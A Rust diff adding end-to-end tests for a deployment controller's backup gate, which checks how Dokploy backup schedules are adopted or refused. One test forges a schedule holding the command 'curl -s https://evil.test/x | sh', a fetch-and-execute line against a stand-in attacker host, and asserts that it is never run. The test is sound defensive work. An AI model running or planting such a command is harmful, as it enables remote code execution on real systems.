@@ -19,7 +19,8 @@ use launchplane_api::resources::{
 };
 use launchplane_core::backup_gate;
 use launchplane_e2e::sim::{Fault, ScheduleRunScript};
-use std::sync::Mutex;
+use std::collections::HashMap;
+use std::sync::{LazyLock, Mutex};
 use std::time::Duration;
 
 const BACKUP: &str = "odoo-backup --to /backups/prod";
@@ -72,6 +73,19 @@ fn gate() -> BackupGate {
     g
 }
 
+/// The backup schedules the gates of each world's lane recorded (by the world's simulator), as
+/// the gate engine reads them from the lane's BackupGates.
+static RECORDED: LazyLock<Mutex<HashMap<String, Vec<String>>>> = LazyLock::new(Default::default);
+
+fn recorded(w: &World) -> Vec<String> {
+    RECORDED
+        .lock()
+        .unwrap()
+        .get(&w.sim.base_url())
+        .cloned()
+        .unwrap_or_default()
+}
+
 /// One controller run of the capture, from the status as stored (as after a restart).
 async fn run(w: &World, gate: &mut BackupGate, memory: &Memory, max_steps: usize) -> CaptureReport {
     gate.status.get_or_insert_with(Default::default).capture = memory.0.lock().unwrap().clone();
@@ -80,6 +94,7 @@ async fn run(w: &World, gate: &mut BackupGate, memory: &Memory, max_steps: usize
         product: Some(&w.product),
         target: Some(&w.target),
         instance: INSTANCE,
+        known: recorded(w),
         settle_timeout: jiff::SignedDuration::from_secs(60),
         poll_delay: Duration::from_millis(50),
     };
@@ -93,7 +108,19 @@ async fn run(w: &World, gate: &mut BackupGate, memory: &Memory, max_steps: usize
         Duration::from_secs(20),
     )
     .await;
-    gate.status.get_or_insert_with(Default::default).capture = memory.0.lock().unwrap().clone();
+    let capture = memory.0.lock().unwrap().clone();
+    if let Some(id) = capture
+        .as_ref()
+        .and_then(|c| c.run.as_ref())
+        .and_then(|r| r.schedule_id.clone())
+    {
+        let mut all = RECORDED.lock().unwrap();
+        let ids = all.entry(w.sim.base_url()).or_default();
+        if !ids.contains(&id) {
+            ids.push(id);
+        }
+    }
+    gate.status.get_or_insert_with(Default::default).capture = capture;
     report
 }
 
@@ -349,5 +376,80 @@ async fn stop_web_with_the_backup_in_the_web_service_is_refused_before_anything_
     let message = c.run.unwrap().message.unwrap_or_default();
     assert!(message.contains("spec.odoo.backup.service"), "{message}");
     assert_eq!(judged(&g), Some(BackupResult::Failed));
+    w.sim.shutdown().await;
+}
+
+#[tokio::test]
+async fn a_backup_schedule_with_a_copied_marker_is_never_run_or_changed_and_the_gate_waits() {
+    let w = deployed(false).await;
+    let evil = "curl -s https://evil.test/x | sh";
+    let forged = w.forge_schedule("backup", "db", evil).await;
+    let mut g = gate();
+    let memory = Memory::default();
+    let report = run(&w, &mut g, &memory, 10).await;
+    assert_eq!(report.steps, vec!["EnsureSchedule"]);
+    let error = report.error.unwrap_or_default();
+    assert!(
+        error.contains(&forged) && error.contains("a copied marker is not ownership"),
+        "{error}"
+    );
+    assert_eq!(w.sim.call_count("schedule.runManually"), 0);
+    assert_eq!(w.sim.call_count("schedule.update"), 0);
+    assert_eq!(w.sim.compose_schedules(&w.compose)[0]["command"], evil);
+    // Not Failed: the gate waits, saying why, for a person.
+    assert_eq!(judged(&g), None);
+    let c = g.status.as_ref().unwrap().capture.clone().unwrap();
+    let run_ = c.run.unwrap();
+    assert!(run_.schedule_requested_at.is_some() && run_.schedule_id.is_none());
+    assert!(run_.message.unwrap_or_default().contains(&forged));
+
+    // Deleted by a person: the same gate goes on with a schedule of its own.
+    w.client().delete_schedule(&forged).await.unwrap();
+    w.sim.script_schedule_runs(
+        "launchplane-backup",
+        ScheduleRunScript::succeed("{\"path\": \"/b/after.zip\"}"),
+    );
+    let steps = restarting(&w, &mut g, &memory).await;
+    assert_eq!(steps, vec!["EnsureSchedule", "RunCommand", "ReadEvidence"]);
+    assert_eq!(judged(&g), Some(BackupResult::Passed));
+    w.sim.shutdown().await;
+}
+
+#[tokio::test]
+async fn a_schedule_made_by_a_create_whose_answer_was_lost_is_adopted_not_doubled() {
+    let w = deployed(false).await;
+    // The intent was written, then the controller stopped after Dokploy created the schedule
+    // and before its id was recorded.
+    let mut g = gate();
+    let memory = Memory::default();
+    *memory.0.lock().unwrap() = Some(launchplane_core::backup_capture::schedule_pending(
+        &CaptureStatus::default(),
+        jiff::Timestamp::now(),
+        None,
+    ));
+    let made = {
+        let want = launchplane_core::schedule::ScheduleWant {
+            compose_id: w.compose.clone(),
+            service: "db".into(),
+            purpose: "backup".into(),
+            owner: launchplane_core::lane::lane_owner(&w.lane, INSTANCE),
+            command: BACKUP.into(),
+        };
+        w.client()
+            .create_schedule(&want.spec())
+            .await
+            .unwrap()
+            .schedule_id
+    };
+    w.sim.script_schedule_runs(
+        "launchplane-backup",
+        ScheduleRunScript::succeed("{\"path\": \"/b/adopted.zip\"}"),
+    );
+    let steps = restarting(&w, &mut g, &memory).await;
+    assert_eq!(steps, vec!["EnsureSchedule", "RunCommand", "ReadEvidence"]);
+    assert_eq!(w.sim.call_count("schedule.create"), 1, "adopted, not doubled");
+    let c = g.status.as_ref().unwrap().capture.clone().unwrap();
+    assert_eq!(c.run.unwrap().schedule_id.as_deref(), Some(made.as_str()));
+    assert_eq!(judged(&g), Some(BackupResult::Passed));
     w.sim.shutdown().await;
 }
